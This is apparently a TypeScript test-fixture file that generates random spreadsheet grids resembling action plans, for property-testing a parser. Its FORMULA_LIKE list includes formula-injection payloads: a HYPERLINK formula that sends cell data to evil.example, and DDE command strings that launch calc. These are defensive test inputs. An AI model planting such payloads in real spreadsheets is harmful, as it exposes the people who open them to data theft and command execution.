// Random sheets for the property tests: the content real plans contain and the content that breaks
// parsers, with header-like rows and action-like rows sprinkled in so tables are actually found.
import fc from "fast-check";
import type { CellRange, CellValue, SheetGrid, WorkbookGrid } from "../../../src/core/grid/types";
import { excelSerialToIso } from "../../../src/core/timescale";
import { between, pick, prng } from "./random";

/** A cell as the grid holds it: the value, what Excel shows, and its number format. */
interface Cell {
  readonly value: CellValue;
  readonly text: string;
  readonly numberFormat: string;
}

const MAX_TEXT = 32767; // Excel's limit for one cell
const LONG = [
  "x".repeat(MAX_TEXT),
  `${"Deliver the plan by March 2024 ".repeat(1100)}`.slice(0, MAX_TEXT),
  `${"👩‍👩‍👧 تنفيذ الخطة ".repeat(3000)}`.slice(0, MAX_TEXT),
  `${"31/03/2024 ".repeat(3000)}`.slice(0, MAX_TEXT),
];

export const FORMULA_LIKE = [
  "=SUM(A1)",
  "+1",
  "@x",
  "-2",
  '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

const ODD_TEXT = [
  "🚀 Deliver the new SEND hub 👩‍👩‍👧",
  "تنفيذ الخطة بحلول مارس",
  "מנהל החינוך",
  "\u202eevil\u202c",
  "e\u0301cole",
  "\u200b",
  "\uD800",
  "   ",
  "\u00a0",
  "a\nb\r\nc",
  "#N/A",
  "null",
  "undefined",
  "__proto__",
  "constructor",
  "toString",
  "0",
  "",
];

const TIMESCALES = [
  "Sept 2003",
  "Ongoing",
  "2009-10",
  "2009/10",
  "Spring term 2024",
  "Summer 2024",
  "31/02/2024",
  "29/02/2023",
  "Q3 2023/24",
  "end of March",
  "Termly",
  "From April 2014",
  "Jan-14",
  "By Dec 2099",
  "9999",
  "0/0/0",
  "April 2014 - March 2015",
  "TBC",
  "Immediate",
  "2024-13-45",
  "32 January 2020",
];

const OWNERS = ["SEN Manager", "Head of A&I / LA", "TBC", "All", "n/a", "J. Smith, K. Jones", "-"];

const STATUS = [
  "On track",
  "Complete",
  "Completed",
  "Red",
  "Amber",
  "Green",
  "Not started",
  "Delayed",
];

const HEADERS = [
  "Ref",
  "No.",
  "Action",
  "Actions",
  "What will we do?",
  "Lead officer",
  "Responsible",
  "Owner",
  "Lead",
  "Timescale",
  "Deadline",
  "Target date",
  "By when",
  "Success criteria",
  "Progress",
  "Status",
  "RAG",
  "Resources",
  "Outcome",
  "Monitoring",
  "Timing/",
  "timescales",
];

const DATE_FORMATS = ["dd/mm/yyyy", "mmm-yy", "d mmmm yyyy", "yyyy-mm-dd", "mmmm yyyy", "m/d/yy"];

const ERRORS = ["#N/A", "#REF!", "#VALUE!", "#DIV/0!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!"];

const text = (s: string): Cell => ({ value: s, text: s, numberFormat: "General" });

function dateCell(rand: () => number): Cell {
  // mostly plausible plan dates, sometimes Excel's extremes and beyond them
  const serial = pick(rand, [
    between(rand, 36000, 50000),
    between(rand, 1, 2958465),
    pick(rand, [0, 1, 59, 60, 61, -1, 2958465, 2958466, 1e9, 45000.75]),
  ]);
  const fmt = pick(rand, DATE_FORMATS);
  let shown: string;
  try {
    shown = serial >= 1 && serial <= 2958465 ? excelSerialToIso(Math.floor(serial)) : "#######";
  } catch {
    shown = "#######";
  }
  return { value: serial, text: shown, numberFormat: fmt };
}

function numberCell(rand: () => number): Cell {
  const v = pick(rand, [
    between(rand, -10, 2030),
    rand() * 1e6 - 5e5,
    pick(rand, [0, -0, 1e308, -1e308, 5e-324, 2004, 2024, 1.5, Number.MAX_SAFE_INTEGER]),
  ]);
  const fmt = pick(rand, ["General", "0", "0.00", "0%", "@", "yyyy", "General"]);
  return { value: v, text: String(v), numberFormat: fmt };
}

function randomCell(rand: () => number): Cell {
  const r = rand();
  if (r < 0.3) return { value: null, text: "", numberFormat: "General" };
  if (r < 0.4) return numberCell(rand);
  if (r < 0.5) return dateCell(rand);
  if (r < 0.54) {
    const e = pick(rand, ERRORS);
    return { value: { error: e }, text: e, numberFormat: "General" };
  }
  if (r < 0.56) {
    const b = rand() < 0.5;
    return { value: b, text: b ? "TRUE" : "FALSE", numberFormat: "General" };
  }
  if (r < 0.58) return text(pick(rand, LONG));
  if (r < 0.64) return text(pick(rand, FORMULA_LIKE));
  if (r < 0.72) return text(pick(rand, ODD_TEXT));
  if (r < 0.82) return text(pick(rand, TIMESCALES));
  if (r < 0.88) return text(pick(rand, OWNERS));
  if (r < 0.92) return text(pick(rand, STATUS));
  if (r < 0.95) return text(pick(rand, HEADERS));
  return text(
    `${between(rand, 1, 30)}.${between(rand, 1, 9)} Deliver action ${between(rand, 1, 999)}`
  );
}

/** A plausible action row under a header: ref, action, owner, timescale, status… mixed with junk. */
function actionRow(rand: () => number, width: number): Cell[] {
  const plausible: Cell[] = [
    text(`${between(rand, 1, 9)}.${between(rand, 1, 9)}`),
    text(`Deliver improvement ${between(rand, 1, 999)} ${pick(rand, ODD_TEXT)}`),
    text(pick(rand, OWNERS)),
    rand() < 0.5 ? text(pick(rand, TIMESCALES)) : dateCell(rand),
    text(pick(rand, STATUS)),
  ];
  return Array.from({ length: width }, (_x, i) =>
    rand() < 0.8 ? (plausible[i % plausible.length] as Cell) : randomCell(rand)
  );
}

/** Header words for the columns of `actionRow`, in its order. */
const HEADER_BY_COLUMN = [
  ["Ref", "No.", "Number"],
  ["Action", "Actions", "What will we do?"],
  ["Lead officer", "Responsible", "Owner", "Lead"],
  ["Timescale", "Deadline", "Target date", "By when"],
  ["Progress", "Status", "RAG"],
];

function headerRow(rand: () => number, width: number): Cell[] {
  // mostly a real header over the action rows below it; sometimes a jumble of header words
  const real = rand() < 0.75;
  return Array.from({ length: width }, (_x, i) => {
    if (real) return text(pick(rand, HEADER_BY_COLUMN[i % HEADER_BY_COLUMN.length] as string[]));
    return rand() < 0.85 ? text(pick(rand, HEADERS)) : randomCell(rand);
  });
}

/** What shape a random sheet takes; fast-check shrinks these, the PRNG fills the cells. */
export interface SheetShape {
  readonly seed: number;
  readonly rows: number;
  readonly cols: number;
  readonly originRow: number;
  readonly originCol: number;
  readonly name: string;
  readonly tables: number;
  readonly merges: number;
  readonly hugeMerge: boolean;
  readonly protected: boolean;
}

export const sheetShape = (maxRows = 300, maxCols = 40): fc.Arbitrary<SheetShape> =>
  fc.record({
    seed: fc.integer(),
    // noBias: fast-check favours tiny numbers, and the point here is full-size sheets
    rows: fc.oneof(
      fc.integer({ min: 0, max: 40 }),
      fc.noBias(fc.integer({ min: Math.min(100, maxRows), max: maxRows }))
    ),
    cols: fc.oneof(fc.integer({ min: 1, max: 8 }), fc.noBias(fc.integer({ min: 1, max: maxCols }))),
    originRow: fc.oneof(fc.constant(1), fc.integer({ min: 1, max: 1_048_000 })),
    originCol: fc.oneof(fc.constant(1), fc.integer({ min: 1, max: 16_000 })),
    name: fc.oneof(
      fc.constantFrom("Sheet1", "Action Plan", "Plan 'A'", "تنفيذ", "🚀", "RAG Summary", ""),
      fc.string({ maxLength: 31 })
    ),
    tables: fc.noBias(fc.integer({ min: 0, max: 4 })),
    merges: fc.noBias(fc.integer({ min: 0, max: 25 })),
    hugeMerge: fc.boolean(),
    protected: fc.boolean(),
  });

function randomMerge(rand: () => number, s: SheetShape): CellRange {
  // inside the grid, overlapping others, hanging over its edges, or well outside it
  const top = s.originRow + between(rand, -3, s.rows + 3);
  const left = s.originCol + between(rand, -3, s.cols + 3);
  return {
    top: Math.max(1, top),
    left: Math.max(1, left),
    bottom: Math.max(1, top) + between(rand, 0, rand() < 0.9 ? 3 : 400),
    right: Math.max(1, left) + between(rand, 0, rand() < 0.9 ? 3 : 60),
  };
}

/** Builds the sheet a shape describes: random cells, then header and action rows placed as tables. */
export function buildSheet(s: SheetShape): SheetGrid {
  const rand = prng(s.seed);
  const cells: Cell[][] = Array.from({ length: s.rows }, () =>
    Array.from({ length: s.cols }, () => randomCell(rand))
  );
  for (let t = 0; t < s.tables && s.rows > 0; t++) {
    const at = between(rand, 0, s.rows - 1);
    const width = Math.min(s.cols, between(rand, 3, 6));
    const from = between(rand, 0, s.cols - width);
    const body = between(rand, 0, 25);
    const rowsOf = [
      headerRow(rand, width),
      ...Array.from({ length: body }, () => actionRow(rand, width)),
    ];
    rowsOf.forEach((row, i) => {
      const target = cells[at + i];
      if (target) row.forEach((c, j) => (target[from + j] = c));
    });
  }
  const merges: CellRange[] = Array.from({ length: s.merges }, () => randomMerge(rand, s));
  if (s.hugeMerge) {
    merges.push({ top: s.originRow, left: s.originCol, bottom: 1_048_576, right: 16_384 });
  }
  const hiddenRows = Array.from(
    { length: between(rand, 0, 5) },
    () => s.originRow + between(rand, 0, s.rows)
  );
  return {
    name: s.name,
    originRow: s.originRow,
    originCol: s.originCol,
    values: cells.map((r) => r.map((c) => c.value)),
    text: cells.map((r) => r.map((c) => c.text)),
    numberFormat: cells.map((r) => r.map((c) => c.numberFormat)),
    merges,
    hiddenRows,
    protected: s.protected,
  };
}

/**
 * One to three sheet shapes. Properties take shapes and build the grid inside, so a counterexample
 * prints as a few numbers (and a seed) rather than a 32,767-character cell.
 */
export const workbookShapes = (maxRows = 300, maxCols = 40): fc.Arbitrary<SheetShape[]> =>
  fc.array(sheetShape(maxRows, maxCols), { minLength: 1, maxLength: 3 });

export function buildWorkbook(shapes: readonly SheetShape[]): WorkbookGrid {
  return { sheets: shapes.map(buildSheet) };
}
